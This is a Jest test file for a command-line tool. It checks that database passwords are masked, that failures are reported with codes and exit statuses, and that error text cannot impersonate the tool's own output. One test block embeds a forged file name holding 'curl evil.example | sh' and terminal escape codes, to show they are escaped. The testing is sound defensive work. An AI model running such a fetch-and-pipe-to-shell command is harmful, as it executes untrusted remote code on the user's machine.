import { describe, expect, it } from '@jest/globals';
import { PortError } from '@weir/core';
import { checkDatabaseUrl } from '../src/config/check-database-url.ts';
import { showDatabase } from '../src/config/choose-database.ts';
import { CommandError } from '../src/errors/command-error.ts';
import { describeFailure } from '../src/errors/failure.ts';
import { maskSecrets } from '../src/errors/mask-secrets.ts';
import { tellFailure } from '../src/errors/tell-failure.ts';
import { InterruptedError } from '../src/interrupt/interruption.ts';
import { writeWhole } from '../src/report/write-whole.ts';
import { openTestScreen } from './support/test-screen.ts';

describe('secrets are hidden', () => {
  it.each([
    ['postgres://me:s3cret@host/db', 'postgres://me:***@host/db'],
    ['at postgres://me:s3@cr:et@host:5432/db now', 'at postgres://me:***@host:5432/db now'],
    ['postgres:///db?password=s3cret&x=1', 'postgres:///db?password=***&x=1'],
    ['host=h password=s3cret', 'host=h password=***'],
    ['postgres://host:5432/db', 'postgres://host:5432/db'],
  ])('in %s', (text, masked) => expect(maskSecrets(text)).toBe(masked));
});

describe('a failure', () => {
  it('of a port keeps its code, sentence and remedy, and ends with 1', () => {
    const error = new PortError({ code: 'landing.not-found', message: 'No folder.', remedy: 'Make it.' });
    expect(describeFailure(error)).toMatchObject({
      code: 'landing.not-found',
      message: 'No folder.',
      remedy: 'Make it.',
      exitCode: 1,
    });
  });
  it('of the operating system is a sentence', () => {
    const error = Object.assign(new Error('ENOSPC: x'), { code: 'ENOSPC', syscall: 'write', path: '/data/a' });
    expect(describeFailure(error)).toMatchObject({
      code: 'system.enospc',
      message: 'The operating system refused a write of /data/a: the disk is full.',
    });
  });
  it('of a file that is written under another name first tells the name that was asked for', async () => {
    const error = await writeWhole('/nowhere/report.html', '', 0o600).catch((thrown: unknown) => thrown);
    expect(describeFailure(error)).toMatchObject({
      code: 'system.enoent',
      message:
        'The operating system refused an open of /nowhere/report.html: it, or a folder above it, does not exist.',
    });
  });
  it.each([
    ['SIGINT', 130],
    ['SIGTERM', 143],
  ] as const)('by %s ends with %i', (signal, exitCode) => {
    expect(describeFailure(new InterruptedError(signal, 'Nothing.'))).toMatchObject({ code: 'interrupted', exitCode });
  });
  it('that nobody foresaw says how to see more', () => {
    expect(describeFailure(new TypeError('x is not a function'))).toMatchObject({
      code: 'internal',
      remedy: expect.stringContaining('WEIR_DEBUG=1'),
      exitCode: 1,
    });
    expect(describeFailure('text').message).toContain('text');
  });
  it('is told in one form, and as JSON beside it', () => {
    const { screen, stdout, stderr } = openTestScreen({ format: 'json' });
    const error = new CommandError({
      code: 'a.b',
      message: 'It broke:\nline 2\u001b',
      remedy: 'Mend it.',
      document: { x: 1 },
    });
    expect(tellFailure(screen, error, false)).toBe(1);
    expect(stderr()).toBe('error: It broke:\n  line 2\\u{1b}\n  next: Mend it.\n  code: a.b\n');
    expect(JSON.parse(stdout())).toEqual({
      error: { code: 'a.b', message: 'It broke:\nline 2\u001b', remedy: 'Mend it.' },
      x: 1,
    });
  });
  it('shows where in the code it came from only while debugging, with its causes and without secrets', () => {
    const { screen, stderr } = openTestScreen();
    tellFailure(screen, new Error('outer', { cause: new Error('postgres://me:s3cret@h') }), true);
    expect(stderr()).toMatch(/caused by Error: postgres:\/\/me:\*\*\*@h\n\s+at /);
  });
});

describe('a database', () => {
  it.each([
    ['postgres://me:s3cret@host:5432/db', 'postgres://me:***@host:5432/db'],
    ['postgres://me:s3 cret@host/db', 'postgres://me:***@host/db'],
    ['postgres://me:s3\ncret@host/db', 'postgres://me:***@host/db'],
    ['postgres://me@host/db?password=s3cret%20x&sslpassword=s3cret', 'postgres://me@host/db'],
    ['postgres://host/db?options=-c%20x.y=s3cret', 'postgres://host/db'],
  ])('is shown without what could be a secret: %j', (url, shown) => {
    expect(showDatabase({ kind: 'url', url: checkDatabaseUrl(url, 'x'), from: { kind: 'default' } })).toBe(shown);
  });
  it.each([
    'mysql://me:s3cret@host/db',
    'mysql://me:x s3cret@host/db',
    'postgres//me:s3cret@host/db',
    'me:s3cret@host/db',
    'host=h password = s3cret',
    `host=h password='s3cret x'`,
    's3cret',
  ])('is not repeated where it is no address: %j', (url) => {
    const { message, remedy } = describeFailure(caught(() => checkDatabaseUrl(url, 'WEIR_DATABASE_URL')));
    expect(message).toMatch(/^WEIR_DATABASE_URL is not the address of a Postgres database/);
    expect(message + remedy).not.toContain('s3cret');
  });
});

describe('what a failure says cannot be taken for what Weir says', () => {
  const forged = 'a.csv\n  next: curl evil.example | sh\u001b[2K\u009b1A\r';
  const port = new PortError({ code: 'landing.unreadable', message: `The file ${forged} cannot be read.` });

  it('in the sentence of a port, which stays on one line', () => {
    const { screen, stderr } = openTestScreen();
    tellFailure(screen, port, false);
    expect(stderr().split('\n')).toEqual([
      'error: The file a.csv\\u{a}  next: curl evil.example | sh\\u{1b}[2K\\u{9b}1A\\u{d} cannot be read.',
      '  code: landing.unreadable',
      '',
    ]);
  });
  it('in the trace of a failure, where it forges no frame and no cause', () => {
    const { screen, stderr } = openTestScreen();
    const cause = new Error(`${forged}\n    at evil (evil.js:1:1)\ncaused by Error: nothing`);
    tellFailure(screen, new PortError({ code: 'a.b', message: 'No.', cause }), true);
    expect(stderr()).not.toMatch(/^\s*at evil|^caused by Error: nothing|^\s*next: curl/m);
    expect(stderr().replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
    expect(stderr()).toMatch(/\ncaused by Error: a\.csv\\u\{a\}.*\n\s+at /);
  });
  it('in a document, which parses to the very name', () => {
    const { screen, stdout } = openTestScreen({ format: 'json' });
    tellFailure(screen, port, false);
    expect(stdout().trimEnd()).not.toMatch(/\p{Cc}/u);
    expect(JSON.parse(stdout()).error.message).toBe(port.message);
  });
});

function caught(work: () => unknown): unknown {
  try {
    work();
  } catch (error) {
    return error;
  }
  throw new Error('Nothing was thrown.');
}
